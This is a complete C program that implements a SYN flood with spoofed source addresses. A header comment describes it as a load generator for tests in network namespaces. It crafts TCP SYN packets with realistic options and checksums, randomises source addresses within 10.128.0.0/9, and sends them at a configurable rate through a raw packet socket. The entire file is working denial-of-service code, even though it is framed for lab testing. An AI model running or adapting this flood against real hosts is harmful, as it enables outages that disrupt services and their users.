/* A SYN flood with spoofed sources, for tests in network namespaces:
 *
 *     synflood INTERFACE ADDRESS PORT RATE SECONDS
 *
 * Sends IPv4 SYNs out of a TUN interface at a steady rate, from random addresses in 10.128.0.0/9, with the options that
 * common clients send. It knows nothing of answers. Its last line is how many the interface took.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, OPTIONS = 20, HEADERS = sizeof(struct iphdr) + sizeof(struct tcphdr) + OPTIONS };

/* mss 1460, sackOK, timestamps, nop, wscale 7 */
static const uint8_t options[OPTIONS] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7};
static uint8_t packets[BATCH][HEADERS];
static struct iovec slices[BATCH];
static struct mmsghdr messages[BATCH];

static uint64_t random64(void) /* xorshift, the same in every run */
{
    static uint64_t state = 0x9e3779b97f4a7c15;
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static uint32_t sum_of(const void *bytes, size_t len)
{
    uint32_t sum = 0;
    const uint8_t *byte = bytes;
    for (size_t i = 0; i < len; i += 2) sum += (uint32_t)byte[i] << 8 | byte[i + 1];
    return sum;
}

static uint16_t folded(uint32_t sum)
{
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

static void fill(uint8_t *packet, in_addr_t to, uint16_t port)
{
    struct iphdr ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = to};
    struct tcphdr tcp = {.dest = htons(port), .doff = (sizeof tcp + OPTIONS) / 4, .syn = 1, .window = htons(64240)};
    uint64_t random = random64();
    ip.tot_len = htons(HEADERS);
    ip.saddr = htonl(0x0a800000 | (random & 0x7fffff));
    tcp.source = htons(1024 + (random >> 23) % 64512);
    tcp.seq = (uint32_t)(random >> 32);
    ip.check = folded(sum_of(&ip, sizeof ip));
    uint32_t pseudo = sum_of(&ip.saddr, 8) + IPPROTO_TCP + sizeof tcp + OPTIONS;
    tcp.check = folded(pseudo + sum_of(&tcp, sizeof tcp) + sum_of(options, OPTIONS));
    memcpy(packet, &ip, sizeof ip);
    memcpy(packet + sizeof ip, &tcp, sizeof tcp);
    memcpy(packet + sizeof ip + sizeof tcp, options, OPTIONS);
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

int main(int count, char **arguments)
{
    if (count != 6) {
        fprintf(stderr, "usage: synflood INTERFACE ADDRESS PORT RATE SECONDS\n");
        return 2;
    }
    in_addr_t to = inet_addr(arguments[2]);
    uint16_t port = (uint16_t)atoi(arguments[3]);
    double rate = atof(arguments[4]), seconds = atof(arguments[5]);
    struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP)};
    link.sll_ifindex = (int)if_nametoindex(arguments[1]);
    int socket_fd = socket(AF_PACKET, SOCK_DGRAM, 0);
    if (socket_fd < 0 || link.sll_ifindex == 0) {
        perror("synflood");
        return 1;
    }
    for (int i = 0; i < BATCH; i++) {
        slices[i] = (struct iovec){packets[i], HEADERS};
        messages[i].msg_hdr = (struct msghdr){
            .msg_name = &link, .msg_namelen = sizeof link, .msg_iov = &slices[i], .msg_iovlen = 1};
    }
    double begun = now(), passed;
    uint64_t offered = 0, taken = 0;
    while ((passed = now() - begun) < seconds) {
        if (offered >= passed * rate) {
            struct timespec pause = {0, 200000};
            nanosleep(&pause, NULL);
            continue;
        }
        for (int i = 0; i < BATCH; i++) fill(packets[i], to, port);
        int sent = sendmmsg(socket_fd, messages, BATCH, 0);
        if (sent < 0 && errno != ENOBUFS && errno != EAGAIN) {
            perror("synflood");
            return 1;
        }
        offered += BATCH;
        taken += sent > 0 ? (uint64_t)sent : 0;
    }
    printf("%llu\n", (unsigned long long)taken);
    return 0;
}
